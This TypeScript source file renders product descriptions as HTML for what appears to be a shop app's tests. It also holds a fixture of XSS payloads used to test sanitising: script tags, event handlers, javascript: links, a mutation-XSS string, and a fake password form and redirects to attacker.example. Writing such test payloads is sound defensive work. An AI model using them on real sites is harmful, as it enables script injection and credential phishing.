import { kindTexts } from './kind-texts';
import type { ProductKind } from './product-line';

interface Described {
  name: string;
  model: string;
  kind: ProductKind;
  sellingPoint: string;
  pictures: readonly { url: string; caption: string }[];
}

const escapes: Readonly<Record<string, string>> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' };
const escapeHtml = (text: string) => text.replace(/[&<>"]/g, (sign) => escapes[sign] ?? sign);
const items = (texts: readonly string[]) => texts.map((text) => `<li>${escapeHtml(text)}</li>`).join('');

/** A product's description as HTML, as the maker's CMS would deliver it; its facts stand beside it. */
export function detailText({ name, model, kind, sellingPoint, pictures }: Described): string {
  const texts = kindTexts[kind];
  const figures = pictures.map(
    ({ url, caption }) =>
      `<figure><img src="${url}" alt="${escapeHtml(`${name} ${caption}`)}" loading="lazy"><figcaption>${escapeHtml(caption)}</figcaption></figure>`,
  );
  return [
    `<h3>产品概述</h3><p><strong>${escapeHtml(name)}</strong>（${escapeHtml(model)}）${escapeHtml(sellingPoint)}。${escapeHtml(texts.purpose)}</p>`,
    figures[0] ?? '',
    `<h3>使用方法</h3><ol>${items(texts.usage)}</ol>`,
    figures.slice(1).join(''),
    `<h3>注意事项</h3><ul>${items(texts.cautions)}</ul>`,
    '<p>以上内容为示例，请以产品标签与说明书为准。</p>',
  ].join('\n');
}

/**
 * HTML that must do nothing when shown: each part tries to set window.unsafeDetail, navigate away or cover
 * the page. Some products carry it, so that sanitising is tested on real data.
 */
export const hostileDetail = [
  '<script>window.unsafeDetail = "script"</script>',
  '<img src="/media/none.webp" alt="" onerror="window.unsafeDetail = \'onerror\'">',
  '<svg onload="window.unsafeDetail = \'onload\'"><a href="javascript:window.unsafeDetail=1"><text y="20">资料</text></a></svg>',
  '<a href="javascript:window.unsafeDetail = \'href\'">点击领取</a>',
  '<a href="&#106;avascript:window.unsafeDetail=\'entity\'" target="_blank">点击下载</a>',
  '<iframe srcdoc="<script>parent.unsafeDetail = \'frame\'</script>"></iframe>',
  '<form action="https://attacker.example/"><input name="password" type="password"><button>重新登录</button></form>',
  '<div style="position:fixed;inset:0;z-index:99999;background:url(https://attacker.example/x)">遮挡</div>',
  '<style>body { display: none }</style><base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror="window.unsafeDetail=\'mutation\'">',
].join('\n');
